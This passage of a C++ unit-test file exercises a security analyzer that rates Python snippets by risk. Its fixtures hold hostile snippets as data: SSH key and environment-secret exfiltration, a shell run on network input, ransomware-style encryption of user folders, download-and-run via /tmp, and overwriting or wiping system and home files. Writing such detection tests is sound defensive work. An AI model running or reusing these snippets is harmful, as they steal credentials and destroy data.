                  "async def main():\n    async with aiohttp.ClientSession() as s:\n        await register(s, {'n': 1})\n"),
            RiskLevel::medium);
  // A tuple of host data unpacked from a function's return; the host's SSH private keys.
  EXPECT_EQ(level("import socket\nfrom pathlib import Path\ndef snap():\n    return (Path('/proc') / 'loadavg').read_text(), 1\n"
                  "load, n = snap()\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                  "s.sendto(load.encode(), ('h.example', 514))\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import glob, socket\nkeys = [open(p, 'rb').read() for p in glob.glob('/etc/ssh/ssh_host_*_key')]\n"
                  "socket.create_connection(('h.example', 6443)).sendall(b''.join(keys))\n"),
            RiskLevel::blocked);
  // A path a caller gives to a helper that writes through the parameter's own method.
  EXPECT_EQ(level("from pathlib import Path\ndef put(p, text):\n    p.write_text(text)\nput(Path('/etc/passwd'), '')\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("from pathlib import Path\ndef put(p, text):\n    p.write_text(text)\nput(Path('/etc/hosts'), 'x')\n"),
            RiskLevel::high);
  EXPECT_EQ(level("from pathlib import Path\ndef put(p, text):\n    p.write_text(text)\nput(Path('notes.txt'), 'x')\n"),
            RiskLevel::medium);
  // A folder a caller gives, walked and emptied: the home directory (an argparse default too).
  EXPECT_EQ(level("import shutil\nfrom pathlib import Path\ndef reset(d):\n    for e in list(d.iterdir()):\n"
                  "        shutil.rmtree(e, ignore_errors=True)\nreset(Path.home())\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import argparse, shutil\nfrom pathlib import Path\ndef reset(d):\n    for e in list(d.iterdir()):\n"
                  "        shutil.rmtree(e, ignore_errors=True)\nap = argparse.ArgumentParser()\n"
                  "ap.add_argument('--dir', type=Path, default=Path.home())\nreset(ap.parse_args().dir)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import shutil\nfrom pathlib import Path\ndef reset(d):\n    for e in list(d.iterdir()):\n"
                  "        shutil.rmtree(e, ignore_errors=True)\nreset(Path.home() / '.cache' / 'myapp')\n"),
            RiskLevel::medium);
  // A docstring shown as the command's help is not code that runs.
  EXPECT_EQ(level("\"\"\"Rules are literals (never eval'd): parsed with ast.literal_eval.\"\"\"\nimport argparse\n"
                  "ap = argparse.ArgumentParser(description=__doc__)\nap.parse_args()\n"),
            RiskLevel::low);
}

TEST(AssessDataFlow, WhatTheNetworkSendsRunAsCodeOrACommandIsARemoteShell) {
  // A socketserver handler that runs each line it reads in a shell.
  EXPECT_EQ(level("import socketserver, subprocess\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n"
                  "        line = self.rfile.readline()\n        cmd = line.decode().strip()\n"
                  "        p = subprocess.run(cmd, shell=True, capture_output=True)\n        self.wfile.write(p.stdout)\n"),
            RiskLevel::blocked);
  // The received data as one argument of a command line is a shell command built from input.
  EXPECT_EQ(level("import os, requests\nhost = requests.get('https://api.example.com/next').json()['host']\n"
                  "os.system(f'ping -c 1 {host}')\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import subprocess, requests\nhost = requests.get('https://api.example.com/next').json()['host']\n"
                  "subprocess.run(['ping', '-c', '1', host])\n"),
            RiskLevel::medium);
}

TEST(AssessDataFlow, HostPathReadAndABodySentIsHighWhereTheValueIsNotFollowed) {
  // The path lives in an object and the reader is a callback it was given: the analyzer does not
  // follow the value, but a file that names where the host's data lives, reads files and sends a
  // body out is a person's to look at (SR-FLOW-032).
  const std::string collector =
      "import requests\nfrom pathlib import Path\n"
      "class Coll:\n    def __init__(self, root, reader):\n        self.root = root\n        self.reader = reader\n"
      "    def collect(self):\n        return {p.name: self.reader(p) for p in self.root.glob('*.conf')}\n"
      "def read(p):\n    with p.open() as f:\n        return f.read()\n";
  const Assessment a = assess_source(
      collector + "requests.post('https://x.example/api', json=Coll(Path('/etc'), read).collect())\n",
      assess_fixture::config());
  EXPECT_EQ(a.level, RiskLevel::high);
  EXPECT_NE(finding(a, "SR-FLOW-032"), nullptr);
  // A stream to a relay, a POST through http.client: sends too.
  EXPECT_EQ(level("import asyncio\nTABLES = ['/proc/net/tcp']\nasync def rd(t):\n    return open(t).read()\n"
                  "async def ship(doc):\n    r, w = await asyncio.open_connection('relay.example', 9000)\n"
                  "    w.write(doc)\n"),
            RiskLevel::high);
  // Fetching is no send; a certificate store is public; a host path never read is a word.
  EXPECT_EQ(level(collector + "requests.get('https://x.example/api', params={'n': 1})\n"), RiskLevel::medium);
  EXPECT_EQ(level("import json, requests\ncfg = json.load(open('settings.json'))\n"
                  "requests.post('https://x.example/s', json={'n': len(cfg)}, verify='/etc/ssl/certs/ca-certificates.crt')\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import requests\nDOC = 'see /etc/hosts'\nHOSTS = '/etc/hosts'\n"
                  "requests.post('https://x.example/s', json={'ok': True})\n"),
            RiskLevel::medium);
}

TEST(AssessDataFlow, UserFoldersInAListHandedToAnEncryptingWalkerAreRansomware) {
  const std::string docs =
      "import os\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\n"
      "class Docs:\n    def __init__(self, roots):\n        self.roots = roots\n    def __iter__(self):\n"
      "        for root in self.roots:\n            for d, _, files in os.walk(root):\n"
      "                for n in files:\n                    yield Path(d) / n\n"
      "def seal(p, f):\n    p.with_name(p.name + '.x').write_bytes(f.encrypt(p.read_bytes()))\n    p.unlink()\n"
      "f = Fernet(Fernet.generate_key())\nhome = Path.home()\n";
  EXPECT_EQ(level(docs + "for p in Docs([home / 'Documents', home / 'Desktop']):\n    seal(p, f)\n"), RiskLevel::blocked);
  // The program's own build output sealed: files written and deleted, no user folder.
  EXPECT_EQ(level(docs + "for p in Docs(['dist', 'build']):\n    seal(p, f)\n"), RiskLevel::medium);
}

TEST(AssessDataFlow, ADownloadRunFromATemporaryDirectoryOrAMarshalledCodeObject) {
  // Fetched, saved under /tmp and run by a shell: download and execute.
  const std::string fetch = "import os, subprocess, requests\nr = requests.get('https://raw.example.com/i.sh')\n"
                            "open('/tmp/i.sh', 'wb').write(r.content)\n";
  EXPECT_EQ(level(fetch + "subprocess.run(['bash', '/tmp/i.sh'])\n"), RiskLevel::blocked);
  // Saved and not run, or a script of its own run: no download is executed.
  EXPECT_EQ(level(fetch + "print(os.path.getsize('/tmp/i.sh'))\n"), RiskLevel::medium);
  EXPECT_EQ(level("import subprocess\nsubprocess.run(['bash', 'scripts/build.sh'])\n"), RiskLevel::medium);
  // marshal makes code payloads, not caches: a marshalled code object decoded and run is one.
  EXPECT_EQ(level("import base64, marshal\nblob = base64.b64encode(marshal.dumps(compile('print(1)', 'p', 'exec')))\n"
                  "def run(e):\n    exec(marshal.loads(base64.b64decode(e)))\nrun(blob)\n"),
            RiskLevel::blocked);
}

TEST(AssessDataFlow, AFileOfItsOwnPutStraightIntoUsrOverwritesNothing) {
  // /usr holds only directories: /usr/copy_file is new (HIGH: written into a system directory);
  // /usr/bin/python3 exists (BLOCKED: overwritten).
  EXPECT_EQ(level("import shutil\nshutil.copy('/etc/apt/sources.list', '/usr/copy_file')\n"), RiskLevel::high);
  EXPECT_EQ(level("d = open('/etc/hostname').read()\nwith open('/usr/copy_file', 'w') as f:\n    f.write(d)\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import shutil\nshutil.copy('launcher.sh', '/usr/bin/python3')\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import shutil\np = '/usr/lib/python3/dist.txt'\nwith open(p, 'w') as f:\n    f.write('x')\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("print(open('/usr/share/dict/words').read()[:10])\n"), RiskLevel::low);
}

TEST(AssessDataFlow, SecretsHarvestedFromTheEnvironmentBySeveralNamesAreCredentials) {
  // One read per secret name of a list, sent: credential exfiltration.
  EXPECT_EQ(level("import os, urllib.parse, urllib.request\nwanted = ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN']\n"
                  "v = {k: os.environ.get(k, '') for k in wanted}\n"
                  "urllib.request.urlopen('http://127.0.0.1:8081/c?' + urllib.parse.urlencode(v))\n"),
            RiskLevel::blocked);
  // Its own client's token, read by name and used: MEDIUM.
  EXPECT_EQ(level("import os, requests\nt = os.environ['GITHUB_TOKEN']\n"
                  "requests.post('https://api.github.com/repos/o/r/issues', headers={'Authorization': t}, json={'title': 'x'})\n"),
            RiskLevel::medium);
  // Several settings that are not secrets, read in a loop and sent: settings.
  EXPECT_EQ(level("import os, requests\nnames = ['REGION', 'STAGE']\nv = {k: os.environ.get(k) for k in names}\n"
                  "requests.post('https://x.example/s', json=v)\n"),
            RiskLevel::medium);
}
